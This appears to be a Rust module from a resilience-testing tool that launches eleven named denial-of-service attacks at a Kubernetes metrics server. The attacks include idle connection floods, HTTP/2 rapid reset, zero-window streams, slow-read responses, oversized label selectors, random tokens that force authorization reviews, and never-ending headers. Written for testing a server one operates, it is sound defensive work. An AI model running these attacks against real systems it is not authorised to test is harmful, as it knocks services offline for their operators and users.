//! The attacks, each by what it was seen to do to a metrics server.

use std::{fmt, io, net::IpAddr, sync::Arc, time::Duration};

use clap::ValueEnum;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::{sleep, timeout},
};

use super::{
    attacker::{Attackers, Connection, Done, Speak, Target},
    http2,
};
use crate::world::TOKEN;

const PODS: &str = "/apis/metrics.k8s.io/v1beta1/pods";

/// How long an attacker waits between requests over one connection, so that a crowd does not only
/// consist of new connections.
const PATIENCE: Duration = Duration::from_secs(26);

/// What attackers do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(super) enum Attack {
    /// A crowd of connections, over which nothing is sent.
    IdleConnections,
    /// A crowd of connections, over which /livez is asked for every 26 s.
    KeptConnections,
    /// 300 clients that do nothing but handshakes.
    Handshakes,
    /// Five clients whose certificates have 130 intermediates.
    CertificateChains,
    /// 400 streams of LIST pods over HTTP/2, by a service account that gives them no window.
    ClosedWindows,
    /// Streams of HTTP/2 that are begun and reset, without end.
    RapidReset,
    /// 300 readers of LIST pods in protobuf, by a service account, at 512 B/s.
    SlowReaders,
    /// Paths under /healthz that are not served, each of which needs a review.
    RandomPaths,
    /// Bearer tokens that the API server does not know, each of which needs a review.
    RandomTokens,
    /// LIST pods with selectors of 5,000 requirements, by a service account.
    LongSelectors,
    /// Headers that begin and never end.
    EndlessHeaders,
}

/// One of the attackers.
struct Attacker {
    target: Target,
    from: IpAddr,
    done: Arc<Done>,
}

// === impl Attack ===

impl Attack {
    /// What it is, in a line.
    pub(super) fn about(self) -> String {
        let value = self.to_possible_value();
        value.and_then(|value| value.get_help().map(ToString::to_string)).unwrap_or_default()
    }

    /// Starts the attack on the server.
    pub(super) fn launch(self, target: &Target, crowd: usize) -> Attackers {
        let count = match self {
            Self::IdleConnections | Self::KeptConnections => crowd,
            Self::Handshakes | Self::SlowReaders => 300,
            Self::CertificateChains => 5,
            Self::ClosedWindows | Self::RapidReset => 4,
            Self::RandomPaths | Self::RandomTokens => 100,
            Self::LongSelectors => 20,
            Self::EndlessHeaders => 1_000,
        };
        Attackers::launch(target, count, move |target, from, done| {
            self.carry_out(Attacker { target, from, done })
        })
    }

    async fn carry_out(self, attacker: Attacker) -> io::Result<()> {
        match self {
            Self::IdleConnections => comes_back(attacker.idle_connection().await).await,
            Self::KeptConnections => comes_back(attacker.kept_connection().await).await,
            Self::Handshakes => attacker.secure(Speak::Http1).await.map(drop),
            Self::CertificateChains => {
                let stream = attacker.secure(Speak::WithChain).await?;
                attacker.requests(stream, PODS, "", Duration::from_millis(1)).await
            }
            Self::ClosedWindows => attacker.closed_windows().await,
            Self::RapidReset => attacker.rapid_reset().await,
            Self::SlowReaders => attacker.slow_reader().await,
            Self::RandomPaths => {
                let path = |random: &str| (format!("/healthz/{random}"), None);
                attacker.reviews(path).await
            }
            Self::RandomTokens => {
                let token = |random: &str| (PODS.to_owned(), Some(format!("Bearer {random}")));
                attacker.reviews(token).await
            }
            Self::LongSelectors => {
                let selector: Vec<_> = (0..5_000).map(|n| format!("a{n}")).collect();
                let path = format!("{PODS}?labelSelector={}", selector.join("%2C"));
                let headers = format!("authorization: {}\r\n", bearer());
                let stream = attacker.secure(Speak::Http1).await?;
                attacker.requests(stream, &path, &headers, Duration::from_millis(100)).await
            }
            Self::EndlessHeaders => attacker.endless_headers().await,
        }
    }
}

// === impl Attacker ===

impl Attacker {
    async fn secure(&self, speak: Speak) -> io::Result<Connection> {
        let stream = self.target.secure_from(self.from, speak).await?;
        self.done.connection();
        Ok(stream)
    }

    async fn idle_connection(&self) -> io::Result<()> {
        let mut stream = self.target.connect_from(self.from).await?;
        self.done.connection();
        stream.read_u8().await.map(drop)
    }

    async fn kept_connection(&self) -> io::Result<()> {
        let stream = self.secure(Speak::Http1).await?;
        self.requests(stream, "/livez", "", PATIENCE).await
    }

    /// Repeats a request, and reads responses for a fixed time after each.
    async fn requests(
        &self,
        mut stream: Connection,
        path: &str,
        headers: &str,
        pause: Duration,
    ) -> io::Result<()> {
        loop {
            get(&mut stream, path, headers).await?;
            self.done.requests(1);
            read_for(&mut stream, pause).await?;
        }
    }

    async fn closed_windows(&self) -> io::Result<()> {
        let mut stream = self.secure(Speak::Http2).await?;
        begin(&mut stream, 0).await?;
        let bearer = bearer();
        for number in 0..100 {
            let headers = [("authorization", bearer.as_str())];
            stream.write_all(&http2::get(2 * number + 1, PODS, &headers)).await?;
            self.done.requests(1);
        }
        read_for(&mut stream, Duration::from_mins(10)).await
    }

    async fn rapid_reset(&self) -> io::Result<()> {
        let mut stream = self.secure(Speak::Http2).await?;
        begin(&mut stream, 65_535).await?;
        for number in 0..100_000 {
            let id = 2 * number + 1;
            stream.write_all(&[http2::get(id, PODS, &[]), http2::reset(id)].concat()).await?;
            self.done.requests(1);
            if number % 64 == 0 {
                read_for(&mut stream, Duration::from_millis(1)).await?;
            }
        }
        Ok(())
    }

    async fn slow_reader(&self) -> io::Result<()> {
        let mut stream = self.secure(Speak::Http1).await?;
        let protobuf = "accept: application/vnd.kubernetes.protobuf";
        let headers = format!("authorization: {}\r\n{protobuf}\r\n", bearer());
        get(&mut stream, PODS, &headers).await?;
        self.done.requests(1);
        let mut piece = [0; 512];
        while stream.read(&mut piece).await? > 0 {
            sleep(Duration::from_secs(1)).await;
        }
        Ok(())
    }

    /// Requests that are not like any before, with a path and a header of authorization each.
    async fn reviews(&self, request: impl Fn(&str) -> (String, Option<String>)) -> io::Result<()> {
        let mut stream = self.secure(Speak::Http2).await?;
        begin(&mut stream, 65_535).await?;
        for number in 0..100 {
            let (path, authorization) = request(&unguessable());
            let headers: Vec<_> =
                authorization.iter().map(|value| ("authorization", value.as_str())).collect();
            stream.write_all(&http2::get(2 * number + 1, &path, &headers)).await?;
            self.done.requests(1);
        }
        read_for(&mut stream, Duration::from_millis(200)).await
    }

    async fn endless_headers(&self) -> io::Result<()> {
        let mut stream = self.secure(Speak::Http1).await?;
        stream.write_all(b"GET /livez HTTP/1.1\r\nhost: attack\r\n").await?;
        self.done.requests(1);
        loop {
            stream.write_all(b"a: b\r\n").await?;
            read_for(&mut stream, Duration::from_secs(1)).await?;
        }
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.to_possible_value().as_ref().map_or("", |value| value.get_name()))
    }
}

async fn get(stream: &mut Connection, path: &str, headers: &str) -> io::Result<()> {
    let request = format!("GET {path} HTTP/1.1\r\nhost: attack\r\n{headers}\r\n");
    stream.write_all(request.as_bytes()).await
}

/// Begins HTTP/2 with so large a window for each stream, and a large one for all of them.
async fn begin(stream: &mut Connection, window: u32) -> io::Result<()> {
    let begin = [http2::PREFACE, &http2::settings(window), &http2::window_update(1 << 30)].concat();
    stream.write_all(&begin).await
}

/// Reads whatever comes for so long; an error when the server has closed the connection.
async fn read_for(stream: &mut Connection, duration: Duration) -> io::Result<()> {
    let read = async {
        let mut buffer = vec![0; 16 << 10];
        while stream.read(&mut buffer).await? > 0 {}
        Err(io::ErrorKind::UnexpectedEof.into())
    };
    timeout(duration, read).await.unwrap_or(Ok(()))
}

/// In a crowd, each attacker whose connection was closed connects again a second later.
async fn comes_back(outcome: io::Result<()>) -> io::Result<()> {
    sleep(Duration::from_secs(1)).await;
    outcome
}

/// What a service account shows that may read usage.
fn bearer() -> String {
    format!("Bearer {TOKEN}")
}

/// Something that no cache has seen.
fn unguessable() -> String {
    use std::sync::atomic::{AtomicU64, Ordering};
    static NEXT: AtomicU64 = AtomicU64::new(0);
    format!("{:016x}", NEXT.fetch_add(1, Ordering::Relaxed).wrapping_mul(0x9e37_79b9_7f4a_7c15))
}
